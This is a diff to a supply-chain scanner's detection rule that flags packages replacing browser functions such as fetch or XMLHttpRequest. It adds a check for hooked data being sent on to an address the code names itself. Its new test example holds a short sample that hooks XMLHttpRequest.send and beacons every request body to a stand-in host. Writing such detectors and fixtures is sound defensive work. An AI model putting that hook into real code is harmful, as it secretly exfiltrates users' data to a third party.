@@ -2,7 +2,8 @@
 
 ## What it detects
 Code that puts something of its own in the place of `fetch`, `XMLHttpRequest`, `WebSocket` or a wallet object of the
-page, new to the line at its reach. At first contact it is asked only together with wallets.
+page, new to the line at its reach; heavier where what is handed to it goes on to an address that the code names itself.
+At first contact it is asked only together with wallets.
 
 ## Why it matters
 The chalk and debug releases of 2025-09-08 replaced `fetch` and exchanged the addresses of payments in every page that
@@ -18,15 +19,17 @@ Lines that always instrument the page (monitoring, mocks); replacement through a
 
 from collections.abc import Iterator
 
+from lazaretto.core.destination import names_host
 from lazaretto.core.facts import Kind
 from lazaretto.core.finding import Card, Example, Finding
-from lazaretto.core.question import Tally, decoded, package_json, runs_by_itself
+from lazaretto.core.question import Tally, decoded, new_chains, package_json, runs_by_itself
 from lazaretto.core.update import Update
 
 CARD = Card(
     id="browser-hook-added",
     title="Function of the browser replaced",
     variants={
+        "taken-away": "What is handed to a function of the browser goes to an address of the code's own.",
         "autorun": "Code that runs by itself replaces a function of the browser, as no earlier release did.",
         "call": "A function replaces a function of the browser, as no earlier release did.",
         "first-contact": "There is no earlier release; the same file replaces browser functions and touches wallets.",
@@ -56,6 +59,19 @@ EXAMPLES = (
         at="index.js:1",
     ),
     Example(
+        title="what the page sends is sent to another host as well",
+        before=_BEFORE,
+        after={
+            "package.json": package_json("1.0.1"),
+            "index.js": "const real = XMLHttpRequest.prototype.send;\n"
+            "XMLHttpRequest.prototype.send = function (body) {\n"
+            "  navigator.sendBeacon('https://collect.invalid/in', body);\n  return real.apply(this, arguments);\n};\n"
+            "module.exports = (a) => a;\n",
+        },
+        expect="taken-away",
+        at="index.js:2",
+    ),
+    Example(
         title="a monitoring library that always replaced fetch",
         before={"package.json": package_json("1.0.0"), "index.js": _HOOK},
         after={"package.json": package_json("1.0.1"), "index.js": _HOOK + "exports.version = 2;\n"},
@@ -71,6 +87,7 @@ EXAMPLES = (
 )
 
 _MESSAGES = {
+    "taken-away": "replaces a function of the browser, and sends what is handed to it to an address of its own",
     "autorun": "replaces a function of the browser without being called",
     "call": "replaces a function of the browser when it is called",
     "first-contact": "replaces functions of the browser and touches wallets",
@@ -81,6 +98,12 @@ def detect(update: Update) -> Iterator[Finding]:
     """Yield one finding for each variant."""
     tally = Tally(CARD)
     for pair in update.pairs:
+        gone = set()
+        for chain, _ in new_chains(pair, (Kind.BROWSER_HOOK,), (Kind.NET_CONNECT,)) if pair.before else ():
+            if chain.data and names_host(chain.sink.fact.value):
+                gone.add((chain.source.path, chain.source.fact))
+                tally.add("taken-away", pair, chain.source, chain.sink)
+                tally.explain("taken-away", decoded(pair, chain.source.path))
         wallets = {placed.path for placed in pair.after.placed if placed.fact.kind is Kind.WALLET_TOUCH}
         for placed in pair.gained(Kind.BROWSER_HOOK):
             variant = "autorun" if runs_by_itself(placed) else "call"
@@ -88,7 +111,7 @@ def detect(update: Update) -> Iterator[Finding]:
                 if placed.path not in wallets:
                     continue
                 variant = "first-contact"
-            elif not pair.is_new_kind(placed):
+            elif not pair.is_new_kind(placed) or (placed.path, placed.fact) in gone:
                 continue
             tally.add(variant, pair, placed)
             tally.explain(variant, decoded(pair, placed.path))
